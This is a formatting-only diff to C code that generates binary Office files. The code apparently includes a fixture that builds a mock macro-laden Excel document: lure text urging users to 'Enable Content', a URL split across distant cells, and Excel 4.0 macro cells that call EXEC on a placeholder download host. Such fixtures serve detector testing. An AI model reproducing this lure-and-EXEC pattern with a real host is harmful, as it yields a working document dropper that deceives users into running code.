@@ -36,8 +36,10 @@ static unsigned char_count(sk_arena *a, const char *text)
 static void put_chars(sk_buf *d, const char *text, bool wide)
 {
     make_u8(d, wide);
-    if (wide) make_utf16(d, text);
-    else sk_buf_str(d, text);
+    if (wide)
+        make_utf16(d, text);
+    else
+        sk_buf_str(d, text);
 }
 
 static bool needs_wide(const char *text)
@@ -140,8 +142,10 @@ static void end_record(struct strings *s)
 static void put_string(struct strings *s, const char *text, bool wide)
 {
     sk_buf chars = scratch(s->out->arena);
-    if (wide) make_utf16(&chars, text);
-    else sk_buf_str(&chars, text);
+    if (wide)
+        make_utf16(&chars, text);
+    else
+        sk_buf_str(&chars, text);
     size_t each = wide ? 2 : 1;
     if (s->record.len + 3 > s->most) end_record(s);
     make_u16(&s->record, (unsigned)(chars.len / each));
@@ -225,8 +229,10 @@ static void put_note(sk_arena *a, sk_buf *b, const char *note)
 
 static void put_hyperlink(sk_arena *a, sk_buf *b, const char *url)
 {
-    static const uint8_t link[16] = {0xD0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B};
-    static const uint8_t moniker[16] = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B};
+    static const uint8_t link[16] = {0xD0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
+                                     0x8C, 0x82, 0,    0xAA, 0,    0x4B, 0xA9, 0x0B};
+    static const uint8_t moniker[16] = {0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11,
+                                        0x8C, 0x82, 0,    0xAA, 0,    0x4B, 0xA9, 0x0B};
     sk_buf d = scratch(a), utf16 = scratch(a);
     make_zeros(&d, 8);
     sk_buf_bytes(&d, sk_bytes_of(link, 16));
@@ -300,12 +306,18 @@ sk_bytes make_xls_2022(sk_arena *a)
     make_ptg(&run, 0x08);
     make_ptg_call(&run, "EXEC", 1);
     make_ptg_call(&halt, "HALT", 0);
-    make_xls_cell lure[] = {{.row = 1, .column = 1, .text = "This document is protected."},
-                            {.row = 2, .column = 1, .text = "Press \"Enable Editing\" and then \"Enable Content\" above."}};
-    make_xls_cell pieces[] = {{.row = 10, .column = 3, .text = "http"}, {.row = 17, .column = 4, .text = "://down"},
-                              {.row = 24, .column = 5, .text = "load.exa"}, {.row = 31, .column = 6, .text = "mple"},
+    make_xls_cell lure[] = {
+        {.row = 1, .column = 1, .text = "This document is protected."},
+        {.row = 2, .column = 1, .text = "Press \"Enable Editing\" and then \"Enable Content\" above."}};
+    make_xls_cell pieces[] = {{.row = 10, .column = 3, .text = "http"},
+                              {.row = 17, .column = 4, .text = "://down"},
+                              {.row = 24, .column = 5, .text = "load.exa"},
+                              {.row = 31, .column = 6, .text = "mple"},
                               {.row = 90, .column = 30, .text = "wp-content/inert.txt"}};
-    make_xls_cell macro[] = {{.row = 0, .column = 5, .tokens = make_tokens_view(&url), .text = "http://download.example/wp-content/inert.txt"},
+    make_xls_cell macro[] = {{.row = 0,
+                              .column = 5,
+                              .tokens = make_tokens_view(&url),
+                              .text = "http://download.example/wp-content/inert.txt"},
                              {.row = 1, .column = 5, .tokens = make_tokens_view(&run)},
                              {.row = 2, .column = 5, .tokens = make_tokens_view(&halt)}};
     make_xls_sheet sheets[] = {{.name = "Sheet1", .cells = lure, .cell_count = 2},
